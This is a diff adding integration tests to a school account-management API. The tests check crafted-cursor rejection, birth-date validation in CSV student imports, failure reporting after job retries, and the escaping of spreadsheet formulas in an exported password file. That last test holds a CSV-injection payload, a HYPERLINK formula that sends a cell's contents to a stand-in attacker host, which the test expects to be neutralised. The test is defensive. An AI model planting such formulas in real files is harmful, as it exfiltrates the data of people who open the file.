@@ -1,4 +1,6 @@
-import { User } from './identity.entities.js';
+import { Job } from '../jobs/job.entity.js';
+import { StorageService } from '../storage/storage.service.js';
+import { User, UserImport } from './identity.entities.js';
 import { createTestApp, type TestApp } from '../../testing/test-app.js';
 
 const auth = (token: string) => ({ Authorization: `Bearer ${token}` });
@@ -108,6 +110,52 @@ describe('accounts: creation, scope, passwords and CSV import', () => {
     // phones are masked in lists
     const teachers = await t.http().get('/api/users?q=teacher.li').set(auth(groupAdmin));
     expect(teachers.body.items[0].phone).toBe('138****0001');
+  });
+
+  it('answers a crafted cursor with a 400 on the cursor field, never a 500', async () => {
+    const crafted = (values: unknown) => Buffer.from(JSON.stringify(values)).toString('base64url');
+    for (const cursor of [
+      'not-a-cursor!',
+      crafted(['\u0000']),
+      crafted([]),
+      crafted([1.5]),
+      crafted(['teacher.li', 'x']),
+      crafted({ a: 1 }),
+    ]) {
+      const res = await t
+        .http()
+        .get(`/api/users?cursor=${encodeURIComponent(cursor)}`)
+        .set(auth(groupAdmin));
+      expect({ cursor, status: res.status, code: res.body.code, fields: res.body.fields }).toEqual({
+        cursor,
+        status: 400,
+        code: 'REQUEST_INVALID',
+        fields: [{ field: 'cursor', message: 'cursor 不正确' }],
+      });
+    }
+    // a crafted timestamp or id in a resource list cursor, too
+    const teacher = await t.login('teacher.li');
+    for (const values of [
+      ['2024-13-45 99:00:00+00', '00000000-0000-0000-0000-000000000000'],
+      ['2024-01-01 00:00:00+00', 'not-a-uuid'],
+      ['search', -5],
+    ]) {
+      const res = await t
+        .http()
+        .get(`/api/resources?cursor=${crafted(values)}`)
+        .set(auth(teacher));
+      expect({ values, status: res.status, fields: res.body.fields }).toEqual({
+        values,
+        status: 400,
+        fields: [{ field: 'cursor', message: 'cursor 不正确' }],
+      });
+    }
+    const en = await t
+      .http()
+      .get(`/api/users?cursor=${crafted(['\u0000'])}`)
+      .set(auth(groupAdmin))
+      .set('Accept-Language', 'en');
+    expect(en.body.fields).toEqual([{ field: 'cursor', message: 'cursor is invalid' }]);
   });
 
   it('finds a parent with no school only by exact username or phone, to link them', async () => {
@@ -228,5 +276,90 @@ describe('accounts: creation, scope, passwords and CSV import', () => {
       .attach('file', Buffer.from('name,email\n张三,a@b.c\n'), 'x.csv');
     expect(res.status).toBe(400);
     expect(res.body.message).toContain('无法识别的列');
+  });
+
+  const startImport = (csv: string) =>
+    t
+      .http()
+      .post('/api/user-imports')
+      .set(auth(ruralAdmin))
+      .field('schoolId', t.seed.schools.rural)
+      .attach('file', Buffer.from(csv), 'students.csv');
+
+  it('refuses impossible and future birth dates on their row, and creates nothing', async () => {
+    const before = await userCount();
+    const start = await startImport(
+      [
+        '用户名,姓名,角色,年级,出生日期',
+        'bd.s001,赵小花,学生,3,2016-02-30',
+        'bd.s002,钱小叶,学生,3,2099-01-01',
+        'bd.s003,孙小草,学生,3,2016-02-29',
+      ].join('\n'),
+    );
+    expect(start.status).toBe(201);
+    await t.jobs.drain();
+    const report = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
+    expect(report.body).toMatchObject({ status: 'failed', failureReason: null });
+    expect(report.body.errors).toEqual([
+      { row: 1, field: 'birthDate', message: '出生日期不存在（如 2 月 30 日）或晚于今天，请核对' },
+      { row: 2, field: 'birthDate', message: '出生日期不存在（如 2 月 30 日）或晚于今天，请核对' },
+    ]);
+    expect(await userCount()).toBe(before);
+  });
+
+  it('marks an import failed with its reason when its job fails after the last attempt', async () => {
+    const before = await userCount();
+    const start = await startImport(['用户名,姓名,角色,年级', 'lost.s001,周小雨,学生,4'].join('\n'));
+    // the source file is gone (lost bucket, wrong lifecycle rule): every attempt fails
+    const imp = await t.db.getRepository(UserImport).findOneByOrFail({ id: start.body.id });
+    await t.app.get(StorageService).delete([imp.sourceKey]);
+    const job = await t.db.getRepository(Job).findOneByOrFail({ singletonKey: start.body.id });
+    for (let attempt = 1; attempt <= job.maxAttempts; attempt++) {
+      await t.db.getRepository(Job).update({ id: job.id }, { runAfter: new Date(Date.now() - 1000) });
+      await t.jobs.drain();
+      const report = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
+      // retried quietly until the last attempt
+      expect([attempt, report.body.status]).toEqual([attempt, attempt < job.maxAttempts ? 'queued' : 'failed']);
+    }
+    expect((await t.db.getRepository(Job).findOneByOrFail({ id: job.id })).state).toBe('failed');
+    const zh = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
+    expect(zh.body).toMatchObject({
+      status: 'failed',
+      errors: [],
+      failureReason: '导入未能完成（已多次重试），没有创建任何账号；请重新上传文件，仍失败请联系管理员',
+    });
+    const en = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin)).set('Accept-Language', 'en');
+    expect(en.body.failureReason).toMatch(/^The import could not finish after several attempts/);
+    expect(await userCount()).toBe(before);
+  });
+
+  it('escapes cells that a spreadsheet would run as formulas in the initial-password file', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+1+2', '-3+4', '@SUM(A1)', '\t=1+1', '王小明'];
+    const start = await startImport(
+      [
+        '用户名,姓名,角色,年级',
+        ...names.map((n, i) => `fx.s00${i},"${n.replace(/"/g, '""')}",学生,3`),
+        '-fx.dash,赵六,学生,3',
+      ].join('\n'),
+    );
+    await t.jobs.drain();
+    const done = await t.http().get(`/api/user-imports/${start.body.id}`).set(auth(ruralAdmin));
+    expect(done.body).toMatchObject({ status: 'done', createdCount: 7 });
+    const text = (await fetch(done.body.credentialsUrl).then((r) => r.text())).replace(/^\uFEFF/, '');
+    const { parse } = await import('csv-parse/sync');
+    const rows = parse(text, { relax_quotes: false }) as string[][];
+    expect(rows[0]).toEqual(['username', 'displayName', 'initialPassword']);
+    expect(rows.slice(1).map((r) => r[1])).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A1,"点我")`,
+      "'+1+2",
+      "'-3+4",
+      "'@SUM(A1)",
+      "'=1+1", // the import trims cells
+      '王小明',
+      '赵六',
+    ]);
+    expect(rows[7][0]).toBe("'-fx.dash");
+    // no cell of the file starts a formula
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 });
